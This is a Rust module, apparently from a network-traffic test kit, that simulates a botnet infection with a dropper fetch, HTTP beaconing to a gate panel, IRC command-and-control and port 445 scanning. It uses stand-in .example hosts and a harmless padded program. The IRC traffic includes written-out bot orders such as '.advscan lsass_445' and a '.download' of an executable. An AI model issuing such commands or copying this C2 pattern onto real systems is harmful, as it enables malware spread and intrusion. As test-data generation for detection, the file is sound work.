//! A machine is infected: it fetches a program, reports to its master by HTTP, takes orders over IRC on an odd port (as the
//! bots of the seed document S1 do), and scans for others.

use super::dns::Answer;
use super::{pe, web};
use crate::cast::{DESKS, DROPPER, GATE, ORDERS, ROUTER, VICTIM};
use crate::stage::Stage;
use contract::Side;
use model::{Addr, Interval, Timestamp};
use testkit::network::{Host, Path};

/// Where the program is fetched.
pub(crate) const DROPPER_NAME: &str = "files.late-invoice.example";
/// Under what name.
pub(crate) const DROPPER_URI: &str = "/2024/invoice_0412.exe";
/// Whom the program reports to.
pub(crate) const GATE_NAME: &str = "gate.winter-relay.example";
/// Where it reports to there.
pub(crate) const GATE_URI: &str = "/panel/gate.php";
/// Where the orders are given.
pub(crate) const ORDERS_NAME: &str = "irc.winter-relay.example";
/// On which port.
pub(crate) const ORDERS_PORT: u16 = 7043;
/// In which channel.
pub(crate) const CHANNEL: &str = "##harvest";
/// From one report to the next, in seconds, give or take a second.
pub(crate) const BEACON_SECS: i64 = 60;

/// The bot's name there.
const NICK: &str = "JPN|XP|482934";
/// What the program calls itself when it reports.
const AGENT: &str = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)";
/// How much the program is padded, in bytes.
const FILLER_BYTES: usize = 70_000;

/// The infected machine.
pub(crate) const fn victim() -> Host {
    DESKS[VICTIM].1
}

/// The program that is fetched.
pub(crate) fn program() -> Vec<u8> {
    pe::harmless_program(FILLER_BYTES)
}

/// Somebody follows the link of the mail. The time when the program is there.
pub(crate) fn fetch_program(stage: &mut Stage, at: Timestamp) -> Timestamp {
    let start = stage.resolve(at, victim(), DROPPER_NAME, &Answer::Alias("edge7.late-invoice.example", DROPPER.addr));
    let mut connection = stage.connect(start, victim(), (DROPPER, 80), Path { loss_per_mille: 10, ..Path::internet(140) });
    let agent = web::agent(victim().system);
    let request = |uri| web::Request { method: "GET", host: DROPPER_NAME, uri, agent, referrer: None, body: b"" }.bytes();
    let moved = format!("Location: http://{DROPPER_NAME}{DROPPER_URI}\r\n");
    let answer = web::reply(connection.now(), "302 Found", "text/html", &moved, b"<html>moved</html>\n");
    connection.ask(&request("/pay?id=0412"), Interval::from_millis(20), &answer);
    let extra = "Content-Disposition: attachment; filename=\"invoice_0412.exe\"\r\n";
    let answer = web::reply(connection.now(), "200 OK", "application/x-msdownload", extra, &program());
    connection.ask(&request(DROPPER_URI), Interval::from_millis(35), &answer);
    connection.wait(Interval::from_secs(5));
    connection.close(Side::Resp);
    connection.now()
}

/// The program reports until the end.
pub(crate) fn beacon(stage: &mut Stage, from: Timestamp, until: Timestamp) {
    let mut at = from;
    let mut number = 0u32;
    while at < until {
        let start = stage.resolve(at, victim(), GATE_NAME, &Answer::Address(GATE.addr));
        let body = [&b"\x12\0\x27\0"[..], &number.to_le_bytes(), &stage.dice().bytes(180)].concat();
        let request = web::Request { method: "POST", host: GATE_NAME, uri: GATE_URI, agent: AGENT, referrer: None, body: &body }.bytes();
        let mut connection = stage.connect(start, victim(), (GATE, 80), Path::internet(180));
        let answer = web::reply(connection.now(), "200 OK", "text/html", "X-Powered-By: PHP/5.4.45\r\n", b"\x08\0\0\0\0\0\0\0");
        connection.ask(&request, Interval::from_millis(50), &answer);
        connection.close(Side::Resp);
        let stray = stage.dice().between(0, 2_000) as i64 - 1_000;
        at = at + Interval::from_millis(BEACON_SECS * 1000 + stray);
        number += 1;
    }
}

/// The bot logs in, takes the channel's topic as its orders, and reports what it finds. The times at which it is told to scan.
pub(crate) fn obey(stage: &mut Stage, at: Timestamp, until: Timestamp) -> Timestamp {
    let start = stage.resolve(at, victim(), ORDERS_NAME, &Answer::Address(ORDERS.addr));
    let mut dice = stage.dice().split();
    let mut connection = stage.connect(start, victim(), (ORDERS, ORDERS_PORT), Path::internet(210));
    let thinking = Interval::from_millis(12);
    connection.ask(format!("PASS autumn\r\nNICK {NICK}\r\nUSER xpbot 0 0 :{NICK}\r\n").as_bytes(), thinking, welcome().as_bytes());
    connection.wait(Interval::from_millis(400));
    let topic = format!(
        ":{NICK}!xpbot@host JOIN :{CHANNEL}\r\n:irc.home 332 {NICK} {CHANNEL} :.advscan lsass_445 100 5 0 -r -s\r\n\
         :irc.home 333 {NICK} {CHANNEL} keeper 1614800000\r\n:irc.home 353 {NICK} @ {CHANNEL} :{NICK} @keeper JPN|2K|118273 DEU|XP|904411\r\n\
         :irc.home 366 {NICK} {CHANNEL} :End of /NAMES list.\r\n"
    );
    connection.ask(format!("JOIN {CHANNEL} rake\r\n").as_bytes(), thinking, topic.as_bytes());
    let ordered = connection.now();
    connection.wait(Interval::from_millis(600));
    connection.say(Side::Orig, format!("PRIVMSG {CHANNEL} :[SCAN]: Random Port Scan started on 10.77.x.x:445 with a delay of 5 seconds for 0 minutes using 100 threads.\r\n").as_bytes());
    let mut told = false;
    while connection.now() + Interval::from_secs(95) < until {
        connection.wait(Interval::from_secs(90));
        connection.say(Side::Resp, b"PING :irc.home\r\n");
        connection.say(Side::Orig, b"PONG :irc.home\r\n");
        if dice.chance(350) {
            let found = format!("PRIVMSG {CHANNEL} :[SCAN]: IP: 10.77.{}.{} Port: 445 is open.\r\n", dice.below(255), dice.below(255));
            connection.say(Side::Orig, found.as_bytes());
        }
        if !told && dice.chance(250) {
            told = true;
            let order =
                format!(":keeper!k@home PRIVMSG {CHANNEL} :.download http://{DROPPER_NAME}/2024/next.exe c:\\windows\\next.exe 1\r\n");
            connection.say(Side::Resp, order.as_bytes());
            connection.wait(Interval::from_secs(2));
            connection.say(
                Side::Orig,
                format!("PRIVMSG {CHANNEL} :[DOWNLOAD]: Downloading URL: http://{DROPPER_NAME}/2024/next.exe.\r\n").as_bytes(),
            );
        }
    }
    ordered
}

fn welcome() -> String {
    format!(
        ":irc.home NOTICE AUTH :*** Looking up your hostname...\r\n:irc.home 001 {NICK} :Welcome to the home network {NICK}\r\n\
         :irc.home 251 {NICK} :There are 4 users and 1129 invisible on 3 servers\r\n:irc.home 422 {NICK} :MOTD File is missing\r\n\
         :{NICK} MODE {NICK} :+i\r\n"
    )
}

/// The bot knocks at port 445 of addresses that nobody here uses.
pub(crate) fn scan(stage: &mut Stage, from: Timestamp) {
    let mut at = from;
    for _ in 0..120 {
        let addr = Addr::v4([10, 77, stage.dice().below(255) as u8, 1 + stage.dice().below(254) as u8]);
        let target = Host { addr, hops: 3, ..ROUTER };
        let (port, refused) = (stage.port(victim()), stage.dice().chance(80));
        stage.network.attempt(at, (victim(), port), (target, 445), Path::internet(4), refused);
        at = at + stage.about_ms(400);
    }
}
